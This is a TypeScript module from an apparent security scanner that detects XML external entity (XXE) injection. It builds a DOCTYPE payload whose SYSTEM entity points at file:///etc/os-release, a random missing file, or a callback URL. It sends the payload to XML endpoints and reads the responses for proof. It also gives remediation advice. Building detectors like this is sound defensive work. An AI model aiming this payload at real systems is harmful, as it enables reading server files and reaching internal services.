/** XML parsers that resolve external entities. */
import { randomBytes } from 'node:crypto'
import { checkInfo, type NativeCheck, type NativeContext, type Proof } from '#native/native-check.ts'
import { requestedCallback } from '#native/web/callback-proof.ts'
import { onlyReads } from '#native/web/verbs.ts'
import { requestWeb, webProof } from '#native/web/request.ts'
import { xmlEndpoints, type XmlEndpoint } from '#native/web/xml-endpoints.ts'
import { identifiedNames } from '#template/relevance.ts'
import { keepsDocuments } from '#template/selection.ts'

export const externalEntities = checkInfo({
  id: 'xml-external-entities',
  name: 'XML external entities resolved (XXE)',
  severity: 'high',
  cvss: 'CVSS:3.1/AV:N/AC:L/PR:N/UI:N/S:U/C:H/I:N/A:N',
  score: 7.5,
  summary:
    'An endpoint that accepts XML resolves external entities: it returned the content of `/etc/os-release`, which contains no secrets, reported that a file with a random name does not exist, or requested a URL of the callback server.',
  impact:
    'An unauthenticated attacker can read files of the server, such as configurations and keys, and send requests to internal services.',
  remediation:
    'Turn off document type declarations or external entities in the parser: `resolve_entities=False` for lxml, `FEATURE_SECURE_PROCESSING` and `disallow-doctype-decl` in Java, no `LIBXML_NOENT` in PHP, and no `noent` in libxmljs.',
  reference: 'https://cheatsheetseries.owasp.org/cheatsheets/XML_External_Entity_Prevention_Cheat_Sheet.html',
  tags: 'xxe injection',
  verifiedOn: 'flask-xml',
})

const isReading = ({ path }: XmlEndpoint) => onlyReads(path)

/** Documents for endpoints that only compute something. */
export const webXml = entityCheck(isReading)
/** A document with the usual elements may be stored. */
export const webXmlStored: NativeCheck = {
  ...entityCheck((endpoint) => !isReading(endpoint)),
  permission: 'writes',
}

function entityCheck(accepts: (endpoint: XmlEndpoint) => boolean): NativeCheck {
  return {
    checks: [externalEntities],
    isPerFolder: true,
    appliesTo: ({ protocol, technologies }) => protocol === 'http' && !keepsDocuments(identifiedNames(technologies)),
    async run(context) {
      const endpoints = await xmlEndpoints(context)
      if (!endpoints) return {}
      for (const endpoint of endpoints.filter(accepts)) {
        const proof = (await readsFile(context, endpoint)) ?? (await callsBack(context, endpoint))
        if (proof) return { [externalEntities.id]: { ...proof, path: endpoint.path } }
      }
      return { [externalEntities.id]: null }
    },
  }
}

const release = /\bPRETTY_NAME=|^ID=[a-z]{2,20}$/m
const missing =
  /failed to load|no such file|cannot find|not found|does(?: not|n't) exist|I\/O (?:warning|error)|ENOENT/i

/** A file without secrets that every Linux distribution has, then one that doesn't exist, which an error names. */
async function readsFile(context: NativeContext, endpoint: XmlEndpoint): Promise<Proof | null> {
  for (const isWhole of [false, true]) {
    const response = await send(context, endpoint, 'file:///etc/os-release', isWhole)
    if (!response) return null
    const [found] = release.exec(response.body) ?? []
    if (found !== undefined) return webProof(response, [found])
  }
  const name = `glacis-${randomBytes(6).toString('hex')}`
  const response = await send(context, endpoint, `file:///${name}`, true)
  // A message that rejects entities, or repeats the document, also contains the name.
  const message = response?.body.includes('<!DOCTYPE entity') === true ? '' : messageAround(name, response?.body ?? '')
  const [error] = /forbidden|not allowed|disallowed/i.test(message) ? [] : (missing.exec(message) ?? [])
  return response && error !== undefined ? webProof(response, [error, name]) : null
}

const messageMax = 150

function messageAround(name: string, body: string): string {
  const at = body.indexOf(name)
  return at === -1 ? '' : body.slice(Math.max(0, at - messageMax), at + messageMax)
}

function callsBack(context: NativeContext, endpoint: XmlEndpoint): Promise<Proof | null> {
  return requestedCallback(context, (url) => send(context, endpoint, url, true))
}

function send(context: NativeContext, { path, sample, field }: XmlEndpoint, url: string, isWhole: boolean) {
  const document = `<?xml version="1.0"?>\n<!DOCTYPE entity [<!ENTITY glacis SYSTEM "${url}">]>\n${withEntity(sample, isWhole)}`
  const [type, body] =
    field === undefined
      ? ['application/xml', document]
      : ['application/x-www-form-urlencoded', `${encodeURIComponent(field)}=${encodeURIComponent(document)}`]
  return requestWeb(context, { method: 'POST', target: path, headers: { 'Content-Type': type }, body })
}

/** The entity in place of each text, or of those that aren't numbers. */
function withEntity(sample: string, isWhole: boolean): string {
  const content = sample.replace(/^<\?xml[^>]{0,200}\?>/, '')
  const texts = content.replaceAll(/>([^<>]{0,300})<\//g, (text, value: string) =>
    isWhole || !/^\s{0,20}[\d.]{1,20}\s{0,20}$/.test(value) ? '>&glacis;</' : text,
  )
  return texts.replaceAll(/\$\{[^{}]{0,80}\}/g, '1')
}
